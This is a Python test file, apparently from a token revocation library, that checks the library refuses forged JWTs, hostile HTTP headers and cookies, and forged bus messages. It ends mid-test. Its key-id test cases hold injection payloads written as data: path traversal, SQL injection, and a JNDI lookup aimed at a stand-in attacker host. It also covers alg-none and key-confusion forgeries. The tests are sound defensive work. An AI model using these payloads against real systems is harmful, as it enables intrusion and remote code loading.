"""Hostile input: forged and malformed tokens, HTTP headers, bus messages, leaked secrets.

Every test asserts something that could fail; none synchronises by sleeping.
Property tests use hypothesis with modest example counts so the file stays fast.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import logging
import secrets
import string
import traceback
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Annotated, Any

import orjson
import pytest
import redis
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from fastapi import Depends, FastAPI
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

import revocation.tokens
from revocation import (
    ConfigError,
    InvalidToken,
    RevocationClient,
    Revoker,
    Session,
    Settings,
    TokenIssuer,
    TokenRevoked,
    TokenVerifier,
    Unauthorised,
)
from revocation.events import MAX_MESSAGE_BYTES, BadMessage, Codec, Heartbeat, bus_key
from revocation.fastapi import init_app, verify_session
from revocation.keys import KeyRing
from revocation.middleware import WSGI_SESSION_KEY, RevocationWSGIMiddleware
from revocation.redis_server import free_port
from revocation.store import Keys
from revocation.tokens import MAX_TOKEN_LENGTH

from .conftest import EVENT_KEY, WorkerThread, poll

KEY = "k" * 32
ISS = "https://auth.example"
AUD = "api"
NOW = 1_800_000_000.25
B64URL = string.ascii_uppercase + string.ascii_lowercase + string.digits + "-_"
UNAUTHORISED_CODES = {"unauthorised", "invalid_token", "try_refresh_token", "token_revoked"}
DROP_REASONS = {
    "too_large",
    "malformed",
    "unsigned",
    "bad_signature",
    "bad_version",
    "invalid",
    "stale_heartbeat",  # a heartbeat not newer than one seen (or than the last catch-up)
}

TOKEN_SETTINGS = Settings(signing_key=KEY, issuer=ISS, audience=AUD)
KID = json.loads(
    base64.urlsafe_b64decode(TokenIssuer(TOKEN_SETTINGS).issue("x").split(".")[0] + "==")
)["kid"]

FAST = hypothesis_settings(max_examples=150, deadline=None)
SLOW = hypothesis_settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def fixed_clock() -> float:
    return NOW


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jws(header: bytes, payload: bytes, key: bytes = KEY.encode()) -> str:
    """A compact HS256 JWS over the raw header and payload bytes given."""
    signing_input = f"{b64(header)}.{b64(payload)}"
    mac = hmac.new(key, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{b64(mac)}"


def sign(header: dict[str, Any], claims: dict[str, Any], key: bytes = KEY.encode()) -> str:
    return jws(json.dumps(header).encode(), json.dumps(claims).encode(), key)


def good_claims(**extra: Any) -> dict[str, Any]:
    return {
        "sub": "alice",
        "sid": "s1",
        "jti": "j1",
        "iat": NOW,
        "exp": NOW + 60,
        "iss": ISS,
        "aud": AUD,
        **extra,
    }


def good_header(**extra: Any) -> dict[str, Any]:
    return {"alg": "HS256", "typ": "JWT", "kid": KID, **extra}


def verifier() -> TokenVerifier:
    return TokenVerifier(TOKEN_SETTINGS, clock=fixed_clock)


def outcome(token: str, checker: TokenVerifier | None = None) -> Session | Unauthorised:
    """A Session, or the Unauthorised raised; any other exception fails the test."""
    try:
        return (checker or verifier()).verify(token)
    except Unauthorised as exc:
        assert str(exc), f"empty message from {type(exc).__name__}"
        assert exc.code in UNAUTHORISED_CODES
        return exc


def invalid(token: str) -> InvalidToken:
    with pytest.raises(InvalidToken) as caught:
        verifier().verify(token)
    assert str(caught.value) and caught.value.code == "invalid_token"
    return caught.value


# -- 1. tokens, property-based -----------------------------------------------

json_scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.integers(min_value=-(10**400), max_value=10**400)
    | st.floats()
    | st.text(max_size=20)
    | st.text(st.characters(categories=["Cs"]), max_size=3)  # lone surrogates
)
json_values = st.recursive(
    json_scalars,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)
plain_json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**63), 2**64 - 1)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)
b64_segments = (
    st.text(alphabet=B64URL, max_size=80)
    | st.text(alphabet=B64URL + "=+/. ", max_size=80)
    | st.binary(max_size=60).map(b64)
    | json_values.map(lambda v: b64(json.dumps(v).encode()))
)


def dumps(value: Any, ascii_only: bool) -> bytes:
    # Lone surrogates survive as invalid UTF-8: hostile bytes for the parser.
    return json.dumps(value, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass")


hostile_headers = st.fixed_dictionaries(
    {"alg": st.just("HS256") | json_values, "kid": st.just(KID) | json_values},
    optional={"typ": json_values, "crit": json_values, "cty": json_values, "jku": json_values},
)
hostile_claims = st.fixed_dictionaries(
    {},
    optional={
        "sub": st.text(min_size=1, max_size=20) | json_values,
        "jti": st.text(min_size=1, max_size=20) | json_values,
        "sid": st.text(min_size=1, max_size=20) | json_values,
        "iat": st.floats(NOW - 1000, NOW) | json_values,
        "exp": st.floats(NOW - 10, NOW + 1000) | json_values,
        "nbf": st.floats(NOW - 1000, NOW + 10) | json_values,
        "iss": st.just(ISS) | json_values,
        "aud": st.just(AUD) | st.just([AUD, "x"]) | json_values,
        "role": json_values,
    },
)


def is_number(value: Any) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


@FAST
@given(st.text())
def test_arbitrary_text_is_unauthorised(token: str) -> None:
    assert isinstance(outcome(token), Unauthorised)


@FAST
@given(st.binary(max_size=300))
def test_arbitrary_bytes_decoded_latin1_are_unauthorised(data: bytes) -> None:
    assert isinstance(outcome(data.decode("latin-1")), Unauthorised)


@FAST
@given(b64_segments, b64_segments, b64_segments)
def test_random_three_part_tokens_are_unauthorised(a: str, b: str, c: str) -> None:
    assert isinstance(outcome(f"{a}.{b}.{c}"), InvalidToken)


@FAST
@given(
    hostile_headers,
    hostile_claims | json_values,
    st.booleans(),
)
def test_correctly_signed_random_json_is_accepted_only_when_well_formed(
    header: dict[str, Any], claims: Any, ascii_only: bool
) -> None:
    token = jws(dumps(header, ascii_only), dumps(claims, ascii_only))
    result = outcome(token)
    if isinstance(result, Session):
        # Whatever was accepted really is well-formed.
        assert header["alg"] == "HS256" and header["kid"] == KID and "crit" not in header
        assert isinstance(claims, dict)
        assert result.user_id == claims["sub"] and isinstance(claims["sub"], str)
        assert result.jti == claims["jti"] and isinstance(claims["jti"], str)
        assert all(is_number(claims[c]) for c in ("iat", "exp") if c in claims)
        assert claims.get("nbf") is None or claims["nbf"] <= NOW
        assert claims["exp"] > NOW and claims["iss"] == ISS
        assert claims["aud"] == AUD or AUD in claims["aud"]
        assert dict(result.claims) == orjson.loads(dumps(claims, ascii_only))


@FAST
@given(
    st.text(min_size=1, max_size=40),
    st.text(min_size=1, max_size=40),
    st.floats(NOW - 900, NOW),
    st.floats(0.001, 900),
    st.dictionaries(
        st.text(max_size=10).filter(lambda k: k not in revocation.tokens.RESERVED_CLAIMS),
        plain_json_values,
        max_size=4,
    ),
)
def test_well_formed_signed_tokens_are_accepted_as_signed(
    sub: str, jti: str, iat: float, ttl: float, extra: dict[str, Any]
) -> None:
    claims = good_claims(sub=sub, jti=jti, iat=iat, exp=iat + ttl + 900, **extra)
    raw = json.dumps(claims).encode()
    result = outcome(jws(json.dumps(good_header()).encode(), raw))
    assert isinstance(result, Session), result
    assert (result.user_id, result.jti, result.issued_at) == (sub, jti, iat)
    assert dict(result.claims) == orjson.loads(raw)


VALID = sign(good_header(), good_claims())
VALID_CLAIMS = dict(verifier().verify(VALID).claims)


@FAST
@given(
    st.integers(0, len(VALID) - 1),
    st.characters(),
    st.sampled_from(["replace", "insert", "delete"]),
)
def test_a_mutated_valid_token_is_invalid_or_carries_the_same_claims(
    index: int, char: str, how: str
) -> None:
    if how == "replace":
        mutated = VALID[:index] + char + VALID[index + 1 :]
    elif how == "insert":
        mutated = VALID[:index] + char + VALID[index:]
    else:
        mutated = VALID[:index] + VALID[index + 1 :]
    result = outcome(mutated)
    if mutated != VALID:
        # Either refused, or (signature encoding slack) the very same claims: never others.
        assert isinstance(result, InvalidToken) or dict(result.claims) == VALID_CLAIMS, result


# -- 2. tokens, hand cases ----------------------------------------------------


def test_a_valid_token_passes_as_a_baseline() -> None:
    assert verifier().verify(VALID).user_id == "alice"


@pytest.mark.parametrize(
    "token",
    [
        "a" * (1024 * 1024),
        f"{'a' * 400_000}.{'b' * 400_000}.{'c' * 300_000}",
        VALID + "." * (1024 * 1024),
        VALID[: VALID.rindex(".")] + "." + "A" * (1024 * 1024),
    ],
    ids=["1MB-blob", "1MB-three-parts", "valid-plus-dots", "1MB-signature"],
)
def test_a_1mb_token_is_refused_before_any_parsing(
    token: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def must_not_run(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("parsed a token longer than MAX_TOKEN_LENGTH")

    monkeypatch.setattr(revocation.tokens, "_json_object", must_not_run)
    monkeypatch.setattr(revocation.tokens, "_b64decode", must_not_run)
    monkeypatch.setattr(revocation.tokens.orjson, "loads", must_not_run)
    with pytest.raises(InvalidToken, match=f"longer than {MAX_TOKEN_LENGTH}"):
        verifier().verify(token)


def test_the_length_limit_is_exact_for_signed_tokens() -> None:
    def padded(n: int) -> str:
        return sign(good_header(), good_claims(pad="x" * n))

    n = 0
    while len(padded(n + 1)) <= MAX_TOKEN_LENGTH:
        n += 1
    assert len(padded(n)) <= MAX_TOKEN_LENGTH < len(padded(n + 1))
    assert verifier().verify(padded(n)).user_id == "alice"
    with pytest.raises(InvalidToken, match="longer than"):
        verifier().verify(padded(n + 1))


def test_every_truncation_of_a_valid_token_is_invalid() -> None:
    for end in range(len(VALID)):
        invalid(VALID[:end])
    header, payload, signature = VALID.split(".")
    for token in (f"{header}.{payload}", f"{header}..{signature}", f".{payload}.{signature}"):
        invalid(token)
    assert "bad signature" in str(invalid(f"{header}.{payload}."))


@pytest.mark.parametrize(
    ("claims", "reason"),
    [
        ({"exp": str(int(NOW + 60))}, "'exp' must be a number"),
        ({"exp": True}, "'exp' must be a number"),
        ({"exp": {"$gt": 0}}, "'exp' must be a number"),
        ({"exp": [NOW + 60]}, "'exp' must be a number"),
        ({"iat": True}, "'iat' must be a number"),
        ({"iat": False}, "'iat' must be a number"),
        ({"iat": "now"}, "'iat' must be a number"),
        ({"nbf": "0"}, "'nbf' must be a number"),
        ({"sub": {"id": "alice"}}, "'sub' must be a non-empty string"),
        ({"sub": ["alice"]}, "'sub' must be a non-empty string"),
        ({"jti": {"a": {"b": {"c": 1}}}}, "'jti' must be a non-empty string"),
        ({"sid": 5}, "'sid' must be a non-empty string"),
        ({"sid": ""}, "'sid' must be a non-empty string"),
        ({"exp": None}, "'exp' is missing"),
        ({"iss": {"x": ISS}}, "issuer"),
        ({"aud": {"aud": AUD}}, "audience"),
        ({"nbf": NOW + 3600}, "not yet valid"),
    ],
)
def test_wrong_claim_types_are_invalid(claims: dict[str, Any], reason: str) -> None:
    token = sign(good_header(), good_claims(**claims))
    with pytest.raises(InvalidToken, match=reason):
        verifier().verify(token)


@pytest.mark.parametrize("number", [str(10**400), "-" + str(10**400), "1e400", "NaN", "Infinity"])
@pytest.mark.parametrize("claim", ["exp", "iat", "nbf"])
def test_numbers_that_overflow_a_double_are_invalid(claim: str, number: str) -> None:
    claims = good_claims(**{claim: 0})
    payload = json.dumps(claims).replace(f'"{claim}": 0', f'"{claim}": {number}')
    assert number in payload
    token = jws(json.dumps(good_header()).encode(), payload.encode())
    with pytest.raises(InvalidToken, match="payload is not JSON"):
        verifier().verify(token)


@pytest.mark.parametrize(
    "header",
    [
        {"alg": "none", "kid": KID},
        {"alg": "None", "kid": KID},
        {"alg": "NONE", "kid": KID},
        {"alg": "hs256", "kid": KID},
        {"alg": "HS512", "kid": KID},
        {"alg": "", "kid": KID},
    ],
)
def test_alg_none_or_another_algorithm_is_refused(header: dict[str, Any]) -> None:
    signing_input = f"{b64(json.dumps(header).encode())}.{b64(json.dumps(good_claims()).encode())}"
    for signature in ("", VALID.split(".")[2]):
        with pytest.raises(InvalidToken, match="not allowed"):
            verifier().verify(f"{signing_input}.{signature}")


def test_alg_none_without_a_kid_is_refused() -> None:
    header = b64(b'{"alg":"none"}')
    signing_input = f"{header}.{b64(json.dumps(good_claims()).encode())}"
    with pytest.raises(InvalidToken, match="'kid' must be a string"):
        verifier().verify(signing_input + ".")


def pem_public(key: Any) -> bytes:
    return key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def test_hs256_signed_with_the_rsa_public_key_is_refused() -> None:
    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = private.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    rs = Settings(signing_key=pem, algorithm="RS256")
    genuine = TokenIssuer(rs, clock=fixed_clock).issue("alice")
    kid = json.loads(base64.urlsafe_b64decode(genuine.split(".")[0] + "=="))["kid"]
    rs_verifier = TokenVerifier(rs, clock=fixed_clock)
    assert rs_verifier.verify(genuine).user_id == "alice"
    public = pem_public(private)
    der = private.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    claims = {"sub": "mallory", "jti": "j", "iat": NOW, "exp": NOW + 60}
    for secret in (public, public.strip(), public.replace(b"\n", b"\r\n"), der):
        for alg in ("HS256", "HS384", "HS512"):
            forged = sign({"alg": alg, "kid": kid}, claims, key=secret)
            with pytest.raises(InvalidToken, match="not allowed"):
                rs_verifier.verify(forged)


@pytest.mark.parametrize(
    "kid",
    [
        "unknown",
        "../../etc/passwd",
        "/dev/null",
        "' OR '1'='1' --",
        "x'; DROP TABLE keys; --",
        "${jndi:ldap://evil.example/a}",
        KID + "\x00",
        KID.upper(),
        " " + KID,
        "k" * 4000,
    ],
)
def test_unknown_or_injected_kids_are_unknown_key_ids(kid: str) -> None:
    token = sign(good_header(kid=kid), good_claims())
    assert len(token) <= MAX_TOKEN_LENGTH
    with pytest.raises(InvalidToken, match="unknown key id"):
        verifier().verify(token)


@pytest.mark.parametrize("kid", [None, 5, ["k"], {"kid": "k"}, True])
def test_non_string_kids_are_invalid(kid: Any) -> None:
    with pytest.raises(InvalidToken, match="'kid' must be a string"):
        verifier().verify(sign(good_header(kid=kid), good_claims()))


@pytest.mark.parametrize("crit", [["exp"], [], "b64", None, {"b64": False}])
def test_a_crit_header_is_refused_whatever_it_holds(crit: Any) -> None:
    with pytest.raises(InvalidToken, match="crit"):
        verifier().verify(sign(good_header(crit=crit), good_claims()))


def test_nbf_in_the_future_is_invalid_and_within_leeway_is_not() -> None:
    with pytest.raises(InvalidToken, match=r"not yet valid \(nbf\)"):
        verifier().verify(sign(good_header(), good_claims(nbf=NOW + 1)))
    lenient = Settings(signing_key=KEY, issuer=ISS, audience=AUD, leeway=5)
    token = sign(good_header(), good_claims(nbf=NOW + 4))
    assert TokenVerifier(lenient, clock=fixed_clock).verify(token).user_id == "alice"


def payload_with_duplicate_sub(first: str, last: str) -> bytes:
    body = json.dumps(good_claims())[1:]
    return f'{{"sub": "{first}", {body}'.replace('"sub": "alice"', f'"sub": "{last}"').encode()


def test_duplicate_claims_resolve_to_the_last_and_the_signature_covers_the_raw_bytes() -> None:
    # RFC 7519 section 4: reject duplicates or keep the lexically last. orjson keeps the last.
    header = json.dumps(good_header()).encode()
    payload = payload_with_duplicate_sub("alice", "admin")
    assert payload.count(b'"sub"') == 2
    token = jws(header, payload)
    results = {verifier().verify(token).user_id for _ in range(3)}
    results.add(TokenVerifier(TOKEN_SETTINGS, clock=fixed_clock).verify_fresh(token).user_id)
    assert results == {"admin"}  # deterministic, the last one
    # Swapping the duplicates changes the bytes: the old signature no longer fits.
    swapped = payload_with_duplicate_sub("admin", "alice")
    forged = f"{b64(header)}.{b64(swapped)}.{token.split('.')[2]}"
    with pytest.raises(InvalidToken, match="bad signature"):
        verifier().verify(forged)
    assert jws(header, swapped) != token and verifier().verify(jws(header, swapped)).user_id == (
        "alice"
    )


@pytest.mark.parametrize(
    ("header", "reason"),
    [
        (b'{"alg":"none","alg":"HS256","kid":"KID"}', None),
        (b'{"alg":"HS256","alg":"none","kid":"KID"}', "not allowed"),
        (b'{"alg":"HS256","kid":"KID","kid":"../../etc/passwd"}', "unknown key id"),
        (b'{"alg":"HS256","kid":"KID","crit":["exp"],"crit":null}', "crit"),
    ],
)
def test_duplicate_header_members_resolve_to_the_last(header: bytes, reason: str | None) -> None:
    token = jws(header.replace(b"KID", KID.encode()), json.dumps(good_claims()).encode())
    if reason is None:
        assert verifier().verify(token).user_id == "alice"
    else:
        with pytest.raises(InvalidToken, match=reason):
            verifier().verify(token)


@pytest.mark.parametrize(
    "token",
    [
        VALID.replace(".", "\u3002", 1),  # ideographic full stop
        VALID.replace(".", "\uff0e", 1),  # fullwidth full stop
        VALID[:10] + "\u0430" + VALID[11:],  # Cyrillic a
        VALID + "\u200b",  # zero-width space
        "\ufeff" + VALID,  # byte order mark
        VALID[:20] + "\ud800" + VALID[20:],  # lone surrogate
        "é.é.é",
    ],
)
def test_non_ascii_tokens_are_invalid(token: str) -> None:
    with pytest.raises(InvalidToken, match="not ASCII"):
        verifier().verify(token)


@pytest.mark.parametrize(
    "token",
    [
        " " + VALID,
        VALID + " ",
        VALID + "\n",
        VALID + "\r\n",
        "\t" + VALID,
        VALID.replace(".", ". ", 1),
        VALID.replace(".", "\n.", 1),
        VALID[:30] + "\n" + VALID[30:],
        VALID[: len(VALID) - 5] + " " + VALID[len(VALID) - 5 :],
        VALID[:30] + "\x00" + VALID[30:],
    ],
)
def test_whitespace_and_control_characters_make_a_token_invalid(token: str) -> None:
    invalid(token)


def test_padding_in_header_or_payload_breaks_the_signature_or_the_encoding() -> None:
    header, payload, signature = VALID.split(".")
    for token in (
        f"{header}{'=' * (-len(header) % 4)}.{payload}.{signature}",
        f"{header}.{payload}{'=' * (-len(payload) % 4)}.{signature}",
        f"{header}.{payload}==.{signature}",
        f"={header}.{payload}.{signature}",
        f"{header[:4]}={header[4:]}.{payload}.{signature}",
        f"{header}.{payload}.{signature}===",
        f"{header}.{payload}.={signature}",
    ):
        if token != VALID:
            invalid(token)


def test_a_padded_signature_segment_is_refused() -> None:
    header, payload, signature = VALID.split(".")
    assert len(signature) % 4 == 3
    invalid(f"{header}.{payload}.{signature}=")


def test_a_non_canonical_signature_encoding_is_refused() -> None:
    header, payload, signature = VALID.split(".")
    last = B64URL.index(signature[-1])
    twin = B64URL[last ^ 1]  # 43 chars = 256 bits + 2 unused bits: flip an unused one
    invalid(f"{header}.{payload}.{signature[:-1]}{twin}")


# -- 3. the HTTP integrations -------------------------------------------------


def build_fastapi(app_settings: Settings) -> FastAPI:
    app = FastAPI()
    init_app(app, app_settings)

    @app.get("/db")
    async def db(
        session: Annotated[Session, Depends(verify_session(check_database=True))],
    ) -> dict[str, Any]:
        return {"user": session.user_id}

    @app.get("/stateless")
    def stateless(
        session: Annotated[Session, Depends(verify_session())],
    ) -> dict[str, Any]:
        return {"user": session.user_id}

    return app


@pytest.fixture
def http(settings: Settings, worker: WorkerThread) -> Iterator[TestClient]:
    app = build_fastapi(settings)
    with TestClient(app, raise_server_exceptions=False) as test_client:
        assert app.state.revocation.client.wait_synced(5)
        yield test_client


def token_variants(valid: str) -> st.SearchStrategy[str]:
    header, payload, signature = valid.split(".")
    return st.one_of(
        st.just(valid),
        st.text(st.characters(codec="latin-1"), max_size=60),
        st.tuples(b64_segments, b64_segments, b64_segments).map(".".join),
        st.builds(
            lambda i, c: valid[:i] + c + valid[i + 1 :],
            st.integers(0, len(valid) - 1),
            st.characters(codec="latin-1"),
        ),
        st.sampled_from(
            [
                f"{header}.{payload}.",
                f"{header}.{payload}",
                valid + "." + signature,
                valid.upper(),
                "x" * (MAX_TOKEN_LENGTH + 1),
            ]
        ),
    )


def authorization_values(valid: str) -> st.SearchStrategy[bytes]:
    composed = st.builds(
        lambda scheme, sep, token, tail: f"{scheme}{sep}{token}{tail}".encode("latin-1"),
        st.sampled_from(["Bearer", "bearer", "BEARER", "Basic", "Token", "", "Bearer Bearer"]),
        st.sampled_from([" ", "  ", "\t", "", ",", " \r\n "]),
        token_variants(valid),
        st.sampled_from(["", " ", "\t", ", x", "\x00"]),
    )
    return st.one_of(st.binary(max_size=200), composed)


def check_http_answer(status: int, body: bytes) -> None:
    assert status in (200, 401, 503), (status, body[:200])
    data = orjson.loads(body)
    if status == 200:
        assert data == {"user": "alice"}
    else:
        assert set(data) == {"message", "code"} and data["message"]
        assert data["code"] in (UNAUTHORISED_CODES if status == 401 else {"revocation_unavailable"})


@pytest.mark.integration
def test_fastapi_hostile_authorization_headers_never_500(
    http: TestClient, issuer: TokenIssuer
) -> None:
    valid = issuer.issue("alice")
    for path in ("/db", "/stateless"):
        response = http.get(path, headers={"Authorization": f"Bearer {valid}"})
        assert response.status_code == 200 and response.json() == {"user": "alice"}

    @SLOW
    @given(authorization_values(valid), st.sampled_from(["/db", "/stateless"]))
    def run(value: bytes, path: str) -> None:
        response = http.get(path, headers={"Authorization": value})
        check_http_answer(response.status_code, response.content)
        if value in (f"Bearer {valid}".encode(), f"bearer  {valid} ".encode()):
            assert response.status_code == 200

    run()


@pytest.mark.integration
def test_fastapi_hostile_cookies_never_500(http: TestClient, issuer: TokenIssuer) -> None:
    valid = issuer.issue("alice")
    assert http.get("/db", headers={"Cookie": f"access_token={valid}"}).status_code == 200

    @SLOW
    @given(
        st.one_of(
            st.binary(max_size=200),
            token_variants(valid).map(lambda t: f"access_token={t}".encode("latin-1")),
            st.builds(
                lambda pre, t, post: f"{pre}access_token={t}{post}".encode("latin-1"),
                st.sampled_from(["", "a=b; ", 'x="; ', "access_token=; ", ";;"]),
                token_variants(valid),
                st.sampled_from(["", ";", '"', "; access_token=junk", "\x00"]),
            ),
        )
    )
    def run(cookie: bytes) -> None:
        response = http.get("/db", headers={"Cookie": cookie})
        check_http_answer(response.status_code, response.content)

    run()


def wsgi_app(environ: dict[str, Any], start_response: Any) -> list[bytes]:
    start_response("200 OK", [("Content-Type", "application/json")])
    return [orjson.dumps({"user": environ[WSGI_SESSION_KEY].user_id})]


def call_wsgi(app: Any, environ: dict[str, str]) -> tuple[int, bytes]:
    answer: dict[str, Any] = {}

    def start_response(status: str, headers: list[tuple[str, str]], exc_info: Any = None) -> None:
        answer["status"], answer["headers"] = status, headers

    body = b"".join(app({"REQUEST_METHOD": "GET", "PATH_INFO": "/", **environ}, start_response))
    assert all(isinstance(k, str) and isinstance(v, str) for k, v in answer["headers"])
    return int(answer["status"].split()[0]), body


@pytest.mark.integration
def test_wsgi_hostile_headers_and_cookies_never_500(
    client: RevocationClient, issuer: TokenIssuer
) -> None:
    app = RevocationWSGIMiddleware(wsgi_app, client, check_database=True)
    valid = issuer.issue("alice")
    assert call_wsgi(app, {"HTTP_AUTHORIZATION": f"Bearer {valid}"})[0] == 200
    assert call_wsgi(app, {"HTTP_COOKIE": f"access_token={valid}"})[0] == 200

    @SLOW
    @given(
        st.none() | authorization_values(valid).map(lambda b: b.decode("latin-1")),
        st.none()
        | st.text(st.characters(codec="latin-1"), max_size=200)
        | token_variants(valid).map(lambda t: f"access_token={t}"),
    )
    def run(authorization: str | None, cookie: str | None) -> None:
        environ = {}
        if authorization is not None:
            environ["HTTP_AUTHORIZATION"] = authorization
        if cookie is not None:
            environ["HTTP_COOKIE"] = cookie
        status, body = call_wsgi(app, environ)
        check_http_answer(status, body)

    run()


# -- 4. bus messages ------------------------------------------------------------


def signed_codec(namespace: str) -> Codec:
    return Codec(bus_key(EVENT_KEY, namespace), require_signature=True)


def dropped_total(client: RevocationClient) -> int:
    return sum(client.status().dropped_messages.values())


def publish_and_wait_dropped(
    client: RevocationClient, raw: redis.Redis, channel: str, frames: list[bytes], expected: int
) -> Counter[str]:
    """Publish ``frames`` then a sentinel that is surely dropped; the drops, by reason.

    Waits until ``expected`` drops and the sentinel's have been counted (one
    connection delivers in order, so the sentinel comes last).
    """
    before = Counter(client.status().dropped_messages)
    for frame in frames:
        raw.publish(channel, frame)
    raw.publish(channel, b"sentinel without a separator")
    target = sum(before.values()) + expected + 1
    assert poll(lambda: dropped_total(client) >= target), client.status()
    after = Counter(client.status().dropped_messages)
    after.subtract(before)
    after["malformed"] -= 1  # the sentinel
    return +after


def forged_all(seq: int = 1) -> bytes:
    return orjson.dumps(
        {
            "seq": seq,
            "kind": "all",
            "subject": "*",
            "revoked_at": 1.0,
            "expires_at": 9e9,
            "not_before": 9e9,
        }
    )


@pytest.mark.integration
def test_hypothesis_garbage_frames_are_all_dropped_and_the_listener_survives(
    client: RevocationClient, revoker: Revoker, issuer: TokenIssuer, settings: Settings
) -> None:
    channel = Keys.for_namespace(settings.namespace).channel
    raw = revoker._store.client
    victim = issuer.issue("victim")
    forger = Codec(bus_key("f" * 32, settings.namespace), require_signature=True)
    messages = st.fixed_dictionaries(
        {"v": st.just(1) | plain_json_values, "type": st.sampled_from(["events", "heartbeat"])},
        optional={
            "head": plain_json_values,
            "events": plain_json_values,
            "sent_at": plain_json_values,
        },
    ).map(orjson.dumps)
    frames = st.one_of(
        st.binary(max_size=300),
        st.builds(lambda p, s: p + b"." + s, messages, st.binary(max_size=60)),
        st.builds(lambda p, s: p + b"." + b64(s).encode(), messages, st.binary(max_size=40)),
        messages.map(lambda p: p + b"."),
        messages.map(forger._frame),
        st.just(forger.events([forged_all()])),
    )

    @SLOW
    @given(frames)
    def run(frame: bytes) -> None:
        before = dropped_total(client)
        raw.publish(channel, frame)
        assert poll(lambda: dropped_total(client) == before + 1), (frame[:100], client.status())

    run()
    status = client.status()
    assert set(status.dropped_messages) <= DROP_REASONS
    assert status.connected and status.applied_seq == status.head_seq == 0
    assert client.verify(victim, check_database=True).user_id == "victim"
    revocation = revoker.revoke(token=victim)
    assert client.wait_applied(revocation.seq, 5)
    with pytest.raises(TokenRevoked):
        client.verify(victim, check_database=True)


@pytest.mark.integration
def test_hand_crafted_hostile_frames_are_dropped_by_reason(
    client: RevocationClient, revoker: Revoker, issuer: TokenIssuer, settings: Settings
) -> None:
    channel = Keys.for_namespace(settings.namespace).channel
    raw = revoker._store.client
    signed = signed_codec(settings.namespace)
    victim = issuer.issue("victim")  # issued before the forged "everyone" revocation
    assert client.verify(victim, check_database=True).user_id == "victim"
    forger = Codec(bus_key("f" * 32, settings.namespace), require_signature=True)
    other_deployment = Codec(bus_key(EVENT_KEY, "another-namespace"), require_signature=True)
    good_beat = signed.heartbeat(0, 1.0)
    payload, _, signature = good_beat.rpartition(b".")
    token_record = {"seq": 1, "kind": "token", "subject": "j", "revoked_at": 1.0, "expires_at": 9e9}

    def signed_record(**changes: Any) -> bytes:
        return signed.events([orjson.dumps({**token_record, **changes})])

    frames = {
        "malformed": [
            b"",
            b"garbage",
            b"\x00\xff" * 100,
            signed._frame(b"not json"),
            signed._frame(b"[1,2,3]"),
            signed._frame(b'"a string"'),
            signed._frame(b"\xff\xfe{}"),
            orjson.dumps({"v": 1, "type": "events", "events": []}),  # no separator
        ],
        "unsigned": [
            b'{"v":1,"type":"heartbeat","head":999999,"sent_at":1}.',
            b'{"v":1,"type":"events","events":[' + forged_all() + b"]}.",
        ],
        "bad_signature": [
            forger.events([forged_all()]),  # a forged "everyone"
            forger.heartbeat(999_999, 1.0),
            other_deployment.events([forged_all()]),  # right key, other namespace
            payload + b"." + b64(secrets.token_bytes(32)).encode(),
            payload + b".!!!",
            payload + b"." + signature[:-2],
            payload.replace(b'"head":0', b'"head":9') + b"." + signature,  # tampered
            b'{"v":1,"type":"events","events":[' + forged_all() + b"]}.AAAA",
        ],
        "bad_version": [
            signed._frame(b'{"v":2,"type":"heartbeat","head":0,"sent_at":1}'),
            signed._frame(b'{"v":"1","type":"heartbeat","head":0,"sent_at":1}'),
            signed._frame(b'{"v":null,"type":"heartbeat","head":0,"sent_at":1}'),
            signed._frame(b'{"type":"events","events":[' + forged_all() + b"]}"),
            signed._frame(b"{}"),
        ],
        "too_large": [
            signed._frame(payload + b" " * (5 * 1024 * 1024)),
            b"x" * (MAX_MESSAGE_BYTES + 1),
        ],
        "invalid": [
            signed_record(seq="x"),
            signed_record(seq=0),
            signed_record(seq=1.5),
            signed_record(kind="everyone"),
            signed_record(kind=5),
            signed_record(subject=123),
            signed_record(subject=""),
            signed_record(subject=["j"]),
            signed_record(subject="x" * 513),
            signed_record(revoked_at="yesterday"),
            signed_record(expires_at=None),
            signed_record(expires_at={"$gt": 0}),
            signed_record(reason=5),
            signed_record(unexpected="field"),
            signed_record(kind="all", subject="*"),  # all without not_before
            signed_record(kind="all", subject="alice", not_before=9e9),
            signed_record(kind="token", not_before=9e9),
            signed._frame(b'{"v":1,"type":"events","events":[]}'),
            signed._frame(b'{"v":1,"type":"events","events":{"seq":1}}'),
            signed._frame(b'{"v":1,"type":"heartbeat","head":-1,"sent_at":1}'),
            signed._frame(b'{"v":1,"type":"heartbeat","head":"x","sent_at":1}'),
            signed._frame(b'{"v":1,"type":"heartbeat","sent_at":1}'),
        ],
    }
    every = [frame for group in frames.values() for frame in group]
    dropped = publish_and_wait_dropped(client, raw, channel, every, len(every))
    assert dropped == Counter({reason: len(group) for reason, group in frames.items()})

    status = client.status()
    assert status.connected and status.applied_seq == 0 and status.head_seq == 0
    assert status.size == 0
    # The forged "everyone" did nothing: a token issued before it still passes.
    assert client.verify(victim, check_database=True).user_id == "victim"
    # The listener survived: a real revocation still arrives and applies.
    other = issuer.issue("other")
